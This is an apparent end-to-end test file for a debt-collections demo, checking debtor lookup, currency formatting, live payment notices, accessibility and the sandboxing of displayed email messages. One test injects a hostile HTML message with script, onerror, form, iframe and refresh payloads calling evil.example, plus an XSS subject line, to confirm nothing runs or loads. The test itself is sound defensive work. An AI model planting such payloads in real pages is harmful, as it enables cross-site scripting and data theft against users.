/** The demo by hand: found, read, asked to pay, paid in another window, told live; by mouse and keyboard, for everyone, and without a word to anybody else. */
import { readFileSync, existsSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { pino } from 'pino';
import type { Browser, Page } from 'playwright-core';
import { builtDemo } from '../../src/server/demo.ts';
import { startGateway } from '../../src/server/main.ts';
import type { Gateway } from '../../src/server/main.ts';
import { launchBrowser, screenshots, visit } from '../support/browser.ts';
import type { Visit } from '../support/browser.ts';

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const long = 240_000;

let gateway: Gateway;
let browser: Browser;
beforeAll(async () => {
  if (!existsSync(join(builtDemo, 'index.html'))) throw new Error('The demo is not built: run "npm run build".');
  gateway = await startGateway({ env: { GATEWAY_MODE: 'sandbox', PORT: '0' }, log: pino({ level: 'silent' }) });
  browser = await launchBrowser();
}, long);
afterAll(async () => {
  await browser?.close();
  await gateway?.close();
});

async function broken(page: Page): Promise<string[]> {
  await page.evaluate(axe);
  const { violations } = await page.evaluate(() => (globalThis as any).axe.run());
  return violations.map(({ id, nodes }: any) => `${id}: ${nodes[0].html}`);
}

const open = (options = {}): Promise<Visit> => visit(browser, `${gateway.url}/demo`, { locale: 'en-GB', ...options });

async function show(page: Page, debtor: string): Promise<void> {
  await page.fill('#debtor', debtor);
  await page.keyboard.press('Enter');
}

async function openClaim(page: Page, claim: string): Promise<void> {
  await page.click(`button:text-is("${claim}")`);
  await page.waitForSelector(`h3:text-is("Claim ${claim}")`);
}

describe('the demo', () => {
  it('finds a debtor by the reference and shows what is owed, in the words and money of the reader', async () => {
    const { page, complaints, foreign, close } = await open();
    await show(page, 'DEB-0148');
    await page.waitForSelector('h2:text-is("Anouk Testema")');
    expect(new URL(page.url()).hash).toBe('#DEB-0148');
    const row = page.locator('tr', { hasText: 'CLM-0763' });
    expect(await row.innerText()).toMatch(/€439\.23/);
    expect(await row.innerText()).toMatch(/Collectmaxx failed, CM open/);
    await page.screenshot({ path: join(screenshots, 'demo-debtor.png'), fullPage: true });

    await page.reload();
    await page.waitForSelector('h2:text-is("Anouk Testema")');
    await show(page, 'DEB-9999');
    await page.waitForSelector('[role="status"]:has-text("Nobody is known as DEB-9999.")');
    await page.goBack();
    await page.waitForSelector('h2:text-is("Anouk Testema")');
    expect(complaints).toEqual([]);
    expect(foreign()).toEqual([]);
    await close();
  }, long);

  it('writes money as a reader of another language does', async () => {
    const { page, close } = await open({ locale: 'de-DE' });
    await show(page, 'DEB-0010');
    expect((await page.locator('tr', { hasText: 'CLM-0157' }).innerText()).replace(/\s/g, ' ')).toContain('1.382,85 €');
    await close();
  }, long);

  it.each([
    ['Collectmaxx', 'Collectmaxx: a payment came in'],
    ['CM', 'CM: the payment link for CLM-0101 is paid.'],
  ])('asks for a payment at %s, once, and tells live when the debtor has paid', async (provider, told) => {
    const { page, complaints, foreign, close } = await open();
    await page.waitForSelector('.payments[data-listening="true"]', { state: 'attached' });
    await show(page, 'DEB-0002');
    await openClaim(page, 'CLM-0101');
    const request = page.locator('.requests li', { hasText: provider });
    expect(await request.count()).toBe(0);
    await page.click(`button:text-is("Ask at ${provider}")`);
    await page.waitForSelector(`.said:has-text("The debtor has a new page to pay on: ${provider}.")`);
    await request.locator('.status:text-is("open")').waitFor();
    // Asked again, there is no second one.
    await page.click(`button:text-is("Ask at ${provider}")`);
    await page.waitForSelector(`.said:has-text("The debtor has a page to pay on already: ${provider}.")`);
    expect(await request.count()).toBe(1);

    // The debtor's own window, at the provider.
    const [debtor] = await Promise.all([page.context().waitForEvent('page'), request.locator('a').click()]);
    await debtor.waitForSelector('button:has-text("Pay EUR 1747.90")');
    await debtor.click('button');
    await debtor.waitForSelector('[role="status"]:has-text("Paid")');
    await debtor.close();

    await page.waitForSelector(`[role="log"] p:has-text("${told}")`);
    await request.locator('.status:text-is("paid")').waitFor();
    await page.screenshot({ path: join(screenshots, `demo-paid-${provider}.png`), fullPage: true });
    expect(complaints).toEqual([]);
    // The debtor's page is the stand-in's; this page asked nobody else.
    expect(foreign().filter((url) => !new URL(url).pathname.match(/^\/(pay|pml)\//))).toEqual([]);
    await close();
  }, long);

  it('shows messages as text, or in a frame that can run and load nothing', async () => {
    const { page, complaints, close } = await open();
    await show(page, 'DEB-0148');
    await openClaim(page, 'CLM-0763');
    await page.click('button:text-is("Show what was written")');
    await page.waitForSelector('.message .text:has-text("Beste Anouk Testema")');
    const frame = page.locator('.message iframe').first();
    expect(await frame.getAttribute('sandbox')).toBe('');
    expect(await frame.getAttribute('srcdoc')).toMatch(/^<meta http-equiv="Content-Security-Policy" content="default-src 'none'/);
    await page.frameLocator('.message iframe').first().locator('p').first().waitFor();
    expect(await page.frameLocator('.message iframe').first().locator('body').innerText()).toContain('Beste Anouk Testema');
    await page.locator('.message').last().scrollIntoViewIfNeeded();
    await page.screenshot({ path: join(screenshots, 'demo-messages.png'), fullPage: true });
    expect(complaints).toEqual([]);
    await close();
  }, long);

  it('runs nothing and loads nothing that a message brings along', async () => {
    const { page, foreign, close } = await open();
    const evil = `<p>Hello</p><script>parent.document.title = 'taken'; fetch('http://evil.example/script')</script><img src="http://evil.example/image" onerror="parent.document.title = 'taken'"><form action="http://evil.example/form"><button>Pay</button></form><iframe src="http://evil.example/frame"></iframe></iframe><meta http-equiv="refresh" content="0;url=http://evil.example/refresh">`;
    await page.route('**/graphql', async (route) => {
      if (!route.request().postData()?.includes('ClaimCorrespondence')) return route.continue();
      const message = { subject: '<img src=x onerror=alert(1)>', from: 'a', to: ['b'], date: null, text: null, html: evil };
      const page_ = { numberOfPages: 1, communicationMessageURLs: [{ messageURL: 'm', communicationType: 'EMAIL', dateTime: 0, message }] };
      return route.fulfill({ json: { data: { claim: { claimReference: 'CLM-0763', communicationMessageURLs: page_ } } } });
    });
    await show(page, 'DEB-0148');
    await openClaim(page, 'CLM-0763');
    await page.click('button:text-is("Show what was written")');
    const frame = page.frameLocator('.message iframe');
    await frame.locator('p:text-is("Hello")').waitFor();
    await frame.locator('button').click();
    expect(await page.locator('.message h5').innerText()).toBe('<img src=x onerror=alert(1)>');
    expect(await page.title()).toBe('Collections desk');
    expect(foreign()).toEqual([]);
    await close();
  }, long);

  it('says what is missing when a system is down, and shows the rest', async () => {
    const heal = gateway.sandbox!.systems.ucollect.fail(() => ({ kind: 'status', status: 400 }));
    const { page, close } = await open();
    await show(page, 'DEB-0148');
    await page.waitForSelector('h2:text-is("Anouk Testema")');
    await page.waitForSelector('[role="alert"]:has-text("A part is missing.")');
    expect(await page.locator('[role="alert"] a').first().getAttribute('href')).toMatch(/^\/docs\/errors\/UPSTREAM_\w+\.html$/);
    await page.screenshot({ path: join(screenshots, 'demo-part.png'), fullPage: true });
    heal();
    await close();
  }, long);

  it.each(['light', 'dark'] as const)('can be read by everyone, in %s', async (colorScheme) => {
    const { page, close } = await open({ colorScheme });
    expect(await broken(page)).toEqual([]);
    await show(page, 'DEB-0005');
    await openClaim(page, 'CLM-0121');
    await page.click('button:text-is("Show what was written")');
    await page.frameLocator('.message iframe').first().locator('p').first().waitFor();
    expect(await broken(page)).toEqual([]);
    await page.screenshot({ path: join(screenshots, `demo-${colorScheme}.png`), fullPage: true });
    await close();
  }, long);

  it('can be used by the keyboard alone', async () => {
    const { page, close } = await open();
    await page.focus('#debtor');
    await page.keyboard.type('DEB-0001');
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.waitForSelector('h2:text-is("Felix de Oefening")');
    await page.focus('button:text-is("CLM-0001")');
    await page.keyboard.press('Enter');
    await page.waitForSelector('h3:text-is("Claim CLM-0001")');
    expect(await page.locator('button:text-is("CLM-0001")').getAttribute('aria-expanded')).toBe('true');
    await close();
  }, long);
});

it('stands in sandbox mode alone', async () => {
  const live = await startGateway({ env: { GATEWAY_MODE: 'live', GATEWAY_GRAPHIQL: 'true', GATEWAY_INTROSPECTION: 'true', PORT: '0', COLLECTMAXX_API_KEY: 'key', COLLECTMAXX_URL: 'http://127.0.0.1:9' }, log: pino({ level: 'silent' }) });
  expect((await fetch(`${live.url}/demo`)).status).toBe(404);
  expect((await fetch(`${live.url}/graphiql`)).status).toBe(200);
  await live.close();
}, long);
